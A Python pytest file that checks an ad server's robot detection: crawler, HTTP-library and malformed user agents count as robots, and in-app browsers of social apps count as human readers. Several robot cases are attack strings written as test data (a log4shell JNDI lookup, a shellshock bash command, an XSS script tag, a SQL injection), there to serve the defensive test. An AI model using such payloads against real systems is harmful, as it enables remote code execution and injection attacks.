"""Robots are told from people by what they say they are; who reads in an app is a person."""

import pytest

from adserver.sources.robots import is_robot

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
ANDROID = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/126.0.0.0 Mobile Safari/537.36"
)


@pytest.mark.parametrize(
    "agent",
    [
        pytest.param("", id="nothing"),
        pytest.param("   ", id="spaces"),
        pytest.param("-", id="a dash"),
        pytest.param("198.51.100.7", id="an address"),
        pytest.param("2001:db8::1", id="an IPv6 address"),
        pytest.param("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", id="Googlebot"),
        pytest.param(
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", id="bingbot"
        ),
        pytest.param("curl/8.5.0", id="curl"),
        pytest.param("python-requests/2.32.3", id="requests"),
        pytest.param("Go-http-client/2.0", id="Go"),
        pytest.param(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36", id="headless"
        ),
        pytest.param("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", id="Facebook's preview"),
        pytest.param("WhatsApp/2.23.20.0", id="WhatsApp's preview"),
        pytest.param("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", id="GPTBot"),
        pytest.param("${jndi:ldap://198.51.100.7/a}", id="log4shell"),
        pytest.param("() { :; }; /bin/bash -c id", id="shellshock"),
        pytest.param("Mozilla/5.0 (Windows NT 10.0) <script>alert(1)</script>", id="a script"),
        pytest.param("Mozilla/5.0' OR '1'='1", id="an injection"),
        pytest.param("x" * 2000, id="too long"),
    ],
)
def test_a_robot_is_recognised(agent: str) -> None:
    assert is_robot(agent)


@pytest.mark.parametrize(
    "agent",
    [
        pytest.param(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", id="Chrome"
        ),
        pytest.param("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", id="Firefox"),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
            id="a CUBOT",
        ),
        pytest.param(
            f"{IPHONE} Instagram 335.0.8.34.89 (iPhone15,2; iOS 17_5_1; de_DE; de; scale=3.00; 1179x2556; 609775437)", id="Instagram"
        ),
        pytest.param(
            f"{ANDROID} Instagram 335.0.0.39.93 Android (34/14; 420dpi; 1080x2400; Google; Pixel 8; shiba; shiba; de_DE)",
            id="Instagram, Android",
        ),
        pytest.param(
            f"{IPHONE} musical_ly_34.9.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/de Region/DE isDarkMode/1 WKWebView/1 "
            "RevealType/Dialog BytedanceWebview/d8a21c6",
            id="TikTok",
        ),
        pytest.param(
            f"{ANDROID} musical_ly_2023409030 JsSdk/1.0 NetType/MOBILE Channel/googleplay AppName/musical_ly app_version/34.9.3",
            id="TikTok, Android",
        ),
        pytest.param(f"{IPHONE} [LinkedInApp]/9.29.7575", id="LinkedIn"),
        pytest.param(
            f"{IPHONE} [FBAN/FBIOS;FBAV/470.0.0.30.107;FBBV/614600000;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5.1]", id="Facebook"
        ),
        pytest.param(f"{ANDROID} [FB_IAB/FB4A;FBAV/470.0.0.0.1;]", id="Facebook, Android"),
        pytest.param(f"{IPHONE} [Pinterest/iOS]", id="Pinterest"),
        pytest.param(f"{IPHONE} Snapchat/13.0.0.44 (like Safari/8617.2.4, panda)", id="Snapchat"),
        pytest.param(f"{IPHONE} MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/zh_CN", id="WeChat"),
        pytest.param(f"{IPHONE} Safari Line/14.9.0", id="Line"),
        pytest.param(f"{IPHONE} GSA/322.0.638159862 Safari/604.1", id="Google app"),
        pytest.param(f"{IPHONE} Twitter for iPhone/10.46", id="X"),
    ],
)
def test_a_reader_is_no_robot(agent: str) -> None:
    assert not is_robot(agent)
